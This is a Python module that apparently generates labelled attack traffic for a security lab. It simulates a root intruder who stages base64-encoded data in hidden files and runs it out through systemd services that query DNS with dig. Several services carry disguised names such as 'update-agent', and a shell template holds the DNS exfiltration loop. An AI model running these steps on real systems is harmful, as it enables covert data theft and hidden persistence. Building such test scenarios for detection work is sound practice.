"""Exfiltration as a service: the intruder, root by now, has systemd run what sends the files."""

import random

from attacks.exfiltrate import RECEIVED, company_text, pieces
from services import units

LABELS = {**RECEIVED, "service": "attacker:dnsteal:exfiltration-service"}
# Some say what they are, others hide among the ordinary ones.
NAMES = [("put", "put"), ("dnsteal", "Exfiltration"), ("network-check", "Check the network"), ("systemd-resolve-helper", "Name resolution helper"), ("update-agent", "Software update agent"), ("x", "x"),
         ("dbus-monitor", "D-Bus monitor"), ("mail-sync", "Mail synchronisation"), ("cached", "Cache daemon"), ("transfer", "Data transfer")]
SEND = "/bin/sh -c 'while read -r n; do dig @{gate} \"$n\" +short +tries=1 +time=1; done < {file}'"


def run(lab):
    """Install a unit, start it, let it send, stop it or let it end; on each server."""
    bed, rng = lab.testbed, random.Random(lab.testbed.seed + 950)
    for i, (name, description) in enumerate(rng.sample(NAMES, 1 if bed.short else 5)):
        host = lab.hosts[(i + 1) % 2]
        names = pieces(company_text(rng, rng.randrange(30, 60)), f"{name}.txt.{bed.intruder.exfil_domain}", "base64", rng)[:40]
        file = rng.choice(["/var/tmp/.q", "/dev/shm/.list", "/var/lib/.names"])
        host.attempt(f"cat > {file}", text_input="\n".join(names) + "\n")
        with lab.journal.step(f"service-{name}", "systemd", [host.address], LABELS, hosts=[host.name], names=[*names, f"{name}.service"]):
            units.write(host, name, description, SEND.format(gate=lab.gate_address, file=file), more=rng.choice(["", "Restart=no", "User=www-data"]))
            host.attempt(f"systemctl {rng.choice(['start', 'restart', 'start'])} {name}", timeout=20)
            host.attempt("sleep 5; " + rng.choice([f"systemctl stop {name}", "true"]), timeout=20)
        host.attempt(f"systemctl stop {name}; rm -f /etc/systemd/system/{name}.service {file}", timeout=20)
